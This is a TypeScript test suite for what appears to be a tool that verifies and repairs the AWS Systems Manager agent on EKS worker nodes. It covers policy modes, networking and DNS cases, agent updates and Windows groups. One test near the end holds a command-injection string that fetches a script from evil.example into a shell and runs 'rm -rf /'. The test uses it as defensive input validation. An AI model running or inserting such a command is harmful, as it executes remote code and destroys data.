import { describe, expect, it } from 'vitest';
import { sample as coverage } from '../events/inspector-coverage.ts';
import { trustOf } from '../sandbox/account/iam/state.ts';
import { deadLetterCount, HOUR, playThrough, start } from './harness.ts';
import { changes, launch, ours, outcomes, RELEASES } from './ssm-agent.fixture.ts';

describe('policy and tags', () => {
  it.each([
    ['observe', { ssmAgent: { mode: 'observe' } }, 'would-act would-remedy'],
    ['off', { ssmAgent: { mode: 'off' } }, 'skipped mode-off'],
    ['kill switch', { killSwitch: true }, 'skipped kill-switch'],
    ['unknown key', { ssmAgents: {} }, 'refused policy-invalid'],
  ])('%s: nothing is changed, and that is recorded once', async (_what, policy, last) => {
    const run = await playThrough({ inProcess: true, ...launch('nodeGroup', { managedPolicy: false }), policy });
    expect(outcomes(run).at(-1)).toBe(last);
    expect(outcomes(run).filter((line) => line === last)).toHaveLength(1);
    expect(changes(run)).toEqual([]);
  });

  it('Default Host Management cures a missing profile where the policy allows it', async () => {
    const run = await playThrough({
      inProcess: true,
      ...launch('nodeGroup', { instanceProfile: false }),
      policy: { ssmAgent: { remedies: { defaultHostManagement: 'enforce' } } },
    });
    expect(changes(run)).toEqual(['ssm UpdateServiceSetting']);
    expect(outcomes(run).at(-1)).toBe('done agent-cured');
  });

  it.each([
    ['role-gone', /no instance profile\. Default Host Management names role \w+, which does not exist any more\./],
    ['role-distrusts', /whose trust policy does not let Systems Manager assume it\./],
  ])(
    'Default Host Management with %s gives agents nothing: that is told, and no agent installed',
    async (state, why) => {
      const { fleet, ...scenario } = launch('nodeGroup', { instanceProfile: false });
      const run = await playThrough({
        inProcess: true,
        ...scenario,
        fleet: Object.assign({}, fleet, { defaultHostManagement: state }),
      });
      expect(outcomes(run).at(-1)).toBe('failed no-instance-profile');
      expect(ours(run).at(-1)?.message).toMatch(why);
      expect(changes(run)).toEqual([]);
    },
  );

  it('agents that lose Default Host Management lack rights: their workers are not told to be replaced', async () => {
    const { fleet, ...scenario } = launch('nodeGroup', { managedPolicy: false });
    const run = await start({
      inProcess: true,
      ...scenario,
      fleet: Object.assign({}, fleet, { defaultHostManagement: 'on' }),
      play: '2h',
    });
    expect(outcomes(run)).toEqual(['done agent-verified']);
    run.account.fleet.serviceSettings.set(undefined, 'somebody');
    await run.account.play(3 * HOUR);
    expect(changes(run)).toEqual(['iam AttachRolePolicy']);
    expect(outcomes(run).at(-1)).toBe('done agent-cured');
  });

  it('an opted-out cluster is left alone', async () => {
    const tags = { 'eks-host-remediator:ignore': 'true' };
    const run = await playThrough(launch('nodeGroup', { managedPolicy: false }, { tags }));
    expect(outcomes(run).at(-1)).toBe('skipped opted-out');
    expect(changes(run)).toEqual([]);
  });
});

it('a role that has its rights from an older policy of AWS gets none besides: the network is what is missing', async () => {
  const ssm = { managedPolicy: false, otherPolicy: 'AmazonEC2RoleforSSM', network: 'none' };
  const run = await playThrough(launch('nodeGroup', ssm));
  expect(outcomes(run)).toEqual(['waiting agent-not-yet-registered', 'failed no-network-path']);
  expect(changes(run)).toEqual([]);
});

describe('in a VPC that another account shares, with endpoints that cannot be seen', () => {
  const shared = { network: { wayOut: 'none' }, vpc: { sharedBy: '222222222222' } };

  it('an agent that is missing is told as doubt, and no way is said to be missing', async () => {
    const run = await playThrough({ inProcess: true, ...launch('nodeGroup', { agent: 'missing' }, shared) });
    expect(outcomes(run).at(-1)).toBe('failed cause-unclear');
    expect(ours(run).at(-1)?.message).toMatch(
      /vpc-\w+ is shared by account 222222222222, whose endpoints cannot be seen/,
    );
    expect(changes(run)).toEqual([]);
  });

  it('an agent that registers by them is verified', async () => {
    const run = await playThrough({ inProcess: true, ...launch('nodeGroup', {}, shared) });
    expect(outcomes(run).at(-1)).toBe('done agent-verified');
  });
});

describe('in a VPC with endpoints and DNS servers of its own', () => {
  const own = (forwards: boolean) => ({
    network: { wayOut: 'none' },
    vpc: { dns: { servers: ['10.9.0.53'], forwards } },
  });

  it('that do not know the endpoints, no agent is said to be missing', async () => {
    const run = await playThrough({ inProcess: true, ...launch('nodeGroup', {}, own(false)) });
    expect(outcomes(run).at(-1)).toBe('failed cause-unclear');
    expect(ours(run).at(-1)?.message).toMatch(/DNS servers 10\.9\.0\.53/);
    expect(changes(run)).toEqual([]);
  });

  it('that do, an agent is verified', async () => {
    const run = await playThrough({ inProcess: true, ...launch('nodeGroup', {}, own(true)) });
    expect(outcomes(run).at(-1)).toBe('done agent-verified');
  });
});

describe('in a VPC whose DNS resolution is off', () => {
  it('a silent agent is told by that, and nothing is installed', async () => {
    const run = await playThrough({ inProcess: true, ...launch('nodeGroup', {}, { vpc: { dnsSupport: false } }) });
    expect(outcomes(run).at(-1)).toBe('failed no-network-path');
    expect(ours(run).at(-1)?.message).toMatch(/DNS resolution is off in vpc-\w+ \(enableDnsSupport\)/);
    expect(changes(run)).toEqual([]);
  });

  it('an agent is verified where DNS servers of its own answer', async () => {
    const vpc = { dnsSupport: false, dns: { servers: ['10.9.0.53'], forwards: false } };
    const run = await playThrough({ inProcess: true, ...launch('nodeGroup', {}, { vpc }) });
    expect(outcomes(run).at(-1)).toBe('done agent-verified');
  });
});

it('what is wrong besides the cause that is cured is told at once', async () => {
  const run = await playThrough({
    inProcess: true,
    ...launch('nodeGroup', { managedPolicy: false, network: 'none' }),
    play: '3h',
  });
  const begun = ours(run).find(({ reason }) => reason === 'policy-attached');
  expect(begun?.message).toMatch(/Also: No way to Systems Manager is found: subnet subnet-\w+ has no default route/);
  expect(outcomes(run).slice(-2)).toEqual(['failed role-lacks-ssm', 'failed no-network-path']);
});

describe('an old agent', () => {
  it.each([
    ['opted out', { tags: { 'eks-host-remediator:ignore': 'true' } }, {}, 'opted out by its tag'],
    ['is out of scope', {}, { scope: { clusters: ['other'] } }, 'The scope leaves out shop'],
  ])('whose cluster %s is not updated, and that is recorded once', async (_what, cluster, policy, why) => {
    const run = await playThrough({
      inProcess: true,
      ...launch('nodeGroup', { latest: false }, cluster),
      policy,
      play: '3h',
    });
    expect(outcomes(run)).toEqual(['done agent-verified']);
    expect(ours(run)[0]?.message).toContain(why);
    expect(changes(run)).toEqual([]);
  });
});

describe('an update of the agent', () => {
  it('in mode observe is proposed, once', async () => {
    const policy = { ssmAgent: { mode: 'observe' } };
    const run = await playThrough({ inProcess: true, ...launch('nodeGroup', { latest: false }), policy, play: '3h' });
    expect(outcomes(run)).toEqual(['would-act would-remedy']);
    expect(changes(run)).toEqual([]);
  });

  it('that fails is tried as often as the policy allows, and its incident is never closed', async () => {
    const run = await playThrough({
      inProcess: true,
      ...launch('nodeGroup', { latest: false, commands: { updateFails: 'Failed', times: 9 } }),
      policy: { ssmAgent: { retryAfter: '15m', attempts: 2 } },
      play: '3h',
    });
    expect(outcomes(run).filter((line) => line !== 'waiting retry-later')).toEqual([
      'acted agent-update-started',
      'failed agent-update-failed',
      'acted agent-update-started',
      'failed agent-update-failed',
      'failed attempts-exhausted',
    ]);
    expect(new Set(ours(run).map(({ correlationId }) => correlationId)).size).toBe(1);
  });
});

it('an update of the agent that is undone on the host is told once, with who may do that, and not begun again', async () => {
  const run = await playThrough({
    inProcess: true,
    ...launch('nodeGroup', { latest: false, commands: { updateUndoneAfterHours: 3 } }),
    play: '12h',
  });
  expect(outcomes(run)).toEqual(['acted agent-update-started', 'done agent-updated', 'failed attempts-exhausted']);
  expect(ours(run).at(-1)?.message).toMatch(
    /was updated to 3\.3\.4624\.0 at \S+, and answers in version 3\.2\.1705\.0 again/,
  );
  expect(ours(run).at(-1)?.hint).toContain('snap info amazon-ssm-agent');
});

it('an agent that stays silent although it was installed is told with what to look at on the host', async () => {
  const run = await playThrough({
    inProcess: true,
    ...launch('nodeGroup', { agent: 'stopped' }),
    policy: { ssmAgent: { attempts: 1 } },
    play: '3h',
  });
  expect(outcomes(run).slice(-2)).toEqual(['failed agent-missing', 'failed attempts-exhausted']);
  for (const { hint } of ours(run).slice(-2)) expect(hint).toMatch(/errors\.log.*service control policy/);
});

it('an agent that may be too old for the endpoints of its VPC is told as that, too', async () => {
  const network = { wayOut: 'none', endpoints: { services: ['ssm', 'ssmmessages'] } };
  const run = await playThrough({ inProcess: true, ...launch('nodeGroup', { version: '3.2.1705.0' }, { network }) });
  expect(outcomes(run).at(-1)).toBe('failed agent-not-installable');
  expect(ours(run).at(-1)?.message).toMatch(/agents before 3\.3\.40\.0 cannot answer: .*no endpoint for ec2messages/);
});

it('a role whose trust policy was changed is told as the cause: no policy is attached, and no worker is told to be replaced', async () => {
  const run = await start({ inProcess: true, ...launch('nodeGroup', {}), play: '2h' });
  expect(outcomes(run)).toEqual(['done agent-verified']);
  const { iam } = run.account.fleet;
  iam.setTrustPolicy('shop-g-node', trustOf('ecs-tasks.amazonaws.com'));
  await run.account.play(3 * HOUR);
  expect(outcomes(run).slice(1)).toEqual(['waiting agent-just-silent', 'failed role-lacks-ssm']);
  const told = ours(run).at(-1);
  expect(told?.message).toContain('its trust policy does not let EC2 assume it');
  expect(`${told?.message} ${told?.hint}`).not.toMatch(/terminate|replace/i);
  expect(changes(run)).toEqual([]);
  iam.setTrustPolicy('shop-g-node', trustOf('ec2.amazonaws.com'));
  await run.account.play(2 * HOUR);
  expect(outcomes(run).at(-1)).toBe('done agent-verified');
});

/** One cluster with one group of Windows. */
const windowsFleet = (group: object) => ({
  startsAt: '2026-07-20T00:05:00Z',
  releases: [{ ...RELEASES, amiTypes: ['WINDOWS_CORE_2022_x86_64'], releaseVersion: '1.33-2026.07.08' }],
  clusters: [
    { name: 'shop', version: '1.33', nodeGroups: [{ name: 'win', amiType: 'WINDOWS_CORE_2022_x86_64', ...group }] },
  ],
});

it('an agent of Windows that nobody calls the latest is updated once, and not again and again', async () => {
  const fleet = windowsFleet({ desiredSize: 1, ssm: { latestIsTold: false } });
  const run = await playThrough({ inProcess: true, fleet, play: '8h' });
  expect(outcomes(run)).toEqual(['acted agent-update-started', 'done agent-updated']);
  expect(changes(run)).toEqual(['ssm SendCommand']);
});

it('Windows has the time that it takes to start: nothing is told of a worker that registers after ten minutes', async () => {
  const launches = [{ at: '+1m', cluster: 'shop', nodeGroup: 'win', count: 1 }];
  const windows = windowsFleet({ desiredSize: 0, maxSize: 1, ssm: { registersAfterSeconds: 600 } });
  const run = await playThrough({ inProcess: true, fleet: { ...windows, launches }, play: '2h' });
  expect(outcomes(run)).toEqual(['waiting agent-not-yet-registered', 'done agent-verified']);
});

describe('hints', () => {
  it('the sweep finds a worker that no event told of, and Auto Mode is skipped', async () => {
    const fleet = {
      startsAt: '2026-07-20T00:05:00Z',
      releases: [RELEASES],
      clusters: [
        {
          name: 'shop',
          version: '1.33',
          autoMode: { instances: 1 },
          nodeGroups: [{ name: 'g', desiredSize: 1, ssm: { managedPolicy: false } }],
        },
      ],
    };
    const run = await playThrough({ inProcess: true, fleet, play: '2h' });
    expect(outcomes(run).sort()).toEqual(['acted policy-attached', 'done agent-cured', 'skipped auto-mode'].sort());
  });

  it('an instance that is no worker, look-alike tags or not, costs no record and no act', async () => {
    const event = { ...coverage, resources: ['i-0123456789abcdef0'] };
    const run = await playThrough({ inProcess: true, ...launch('nodeGroup', {}), events: [{ after: 0, event }] });
    expect(outcomes(run)).toEqual(['done agent-verified']);
    expect(deadLetterCount(run)).toBe(0);
  });

  it('a text that is no instance id goes to the dead-letter queue, and reaches nothing else', async () => {
    const hostile = '$(curl evil.example|sh)"; rm -rf / #';
    const event = { ...coverage, resources: [hostile] };
    const run = await playThrough({ inProcess: true, ...launch('nodeGroup', {}), events: [{ after: 0, event }] });
    expect(deadLetterCount(run)).toBe(1);
    expect(JSON.stringify(run.calls.filter(({ service }) => service !== 'sqs'))).not.toContain('evil.example');
    expect(run.records.find(({ reason }) => reason === 'invalid-event')?.message).toContain('resources.0');
  });
});
